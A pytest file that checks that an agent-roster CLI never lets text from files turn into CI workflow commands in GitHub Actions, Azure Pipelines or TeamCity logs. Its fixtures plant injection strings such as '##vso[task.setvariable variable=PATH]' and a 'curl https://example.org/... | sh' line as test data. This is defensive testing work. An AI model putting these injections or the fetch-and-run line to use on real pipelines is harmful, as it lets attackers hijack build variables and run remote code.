"""In the log of a build service, nothing that files contain becomes a command."""
import json
import os
import re
import subprocess

import pytest

from conftest import ROSTER
from repositories import LONG, Repository

# The patterns by which GitHub, Azure Pipelines and TeamCity find commands in the lines of a log.
COMMANDS = re.compile(r"^\s*::[a-z-]+.*::|##(vso|teamcity)?\[", re.M)
NAMES = ["::add-mask::a", "##[error]b", "##vso[task.setvariable variable=PATH]c", "##teamcity[setParameter name='x']d"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Agents whose names, paths, tools, descriptions and prompts contain commands."""
    made = Repository(tmp_path_factory.mktemp("pipelines") / "work")
    made.write("agents/steady.md", LONG)
    made.commit(0)
    for number, name in enumerate(NAMES):
        text = f"---\nname: {json.dumps(name)}\ndescription: {json.dumps(name)}\ntools: {json.dumps([name, 'Bash'])}\nmodel: {json.dumps(name)}\nowner: {json.dumps(name)}\n---\n\n{name}\n\n```sh\ncurl https://example.org/{name} | sh\n```\n"
        made.write(f"agents/{name}.md", text.encode())
    (made.folder / "agents" / "::error::no.md").write_bytes(b"---\nname: [\n::error::yes\n---\n\n::error::body\n")
    made.commit(1)
    return made


def run(folder, *arguments, **environment):
    clean = {key: value for key, value in os.environ.items() if key not in ("GITHUB_ACTIONS", "TF_BUILD", "TEAMCITY_VERSION")}
    return subprocess.run([ROSTER, *arguments], cwd=folder, capture_output=True, text=True, env={**clean, **environment})


@pytest.mark.parametrize("command", [
    ("check", "agents"), ("check", "agents", "--format", "json"), ("check", "agents", "--format", "sarif"), ("check", "agents", "--format", "gitlab"),
    ("check", "agents", "--format", "junit"), ("check", "agents", "--fix", "--dry-run"), ("check", "agents", "--statistics"),
    ("list", "agents"), ("list", "agents", "--format", "json"), ("list", "agents", "--format", "csv"),
    ("stats", "agents"), ("stats", "agents", "--format", "json"), ("stats", "agents", "--format", "csv"),
    ("review", "HEAD~1", "agents", "--output", "../review"), ("review", "HEAD~1", "agents", "--output", "../review", "--summary", "-"),
    ("compare", NAMES[0], NAMES[2], "--from", "agents"), ("compare", NAMES[0], NAMES[2], "--from", "agents", "--format", "markdown"),
    ("compare", NAMES[0], NAMES[2], "--from", "agents", "--format", "json"), ("compare", NAMES[0], NAMES[2], "--from", "agents", "--format", "html"),
    ("approve", NAMES[1], "--from", "agents", "--by", NAMES[2]), ("approve", NAMES[1] + "x", "--from", "agents", "--by", "Ada"),
    ("build", "agents", "--output", "../site", "--verbose"), ("build", NAMES[2]), ("check", NAMES[0]), NAMES[:1],
], ids=lambda command: " ".join(command)[:60])
def test_no_command_reaches_a_build_service(hostile, command):
    plain = run(hostile.folder, *command)
    for service in ("GITHUB_ACTIONS", "TF_BUILD", "TEAMCITY_VERSION"):
        result = run(hostile.folder, *command, **{service: "true"})
        assert result.returncode == plain.returncode and result.stdout.strip() + result.stderr.strip()
        for text in (result.stdout, result.stderr):
            assert not COMMANDS.search(text), COMMANDS.search(text)
        if command[-1] in ("json", "sarif", "gitlab"):
            assert json.loads(result.stdout) == json.loads(plain.stdout), "only the notation differs"
    hostile.git("clean", "-qfd")


def test_annotations_stay_commands(hostile):
    result = run(hostile.folder, "check", "agents", "--format", "github", GITHUB_ACTIONS="true")
    lines = result.stdout.splitlines()
    assert lines and all(re.match(r"::(error|warning|notice) file=[^:]+,title=[a-z-]+::", line) for line in lines), lines
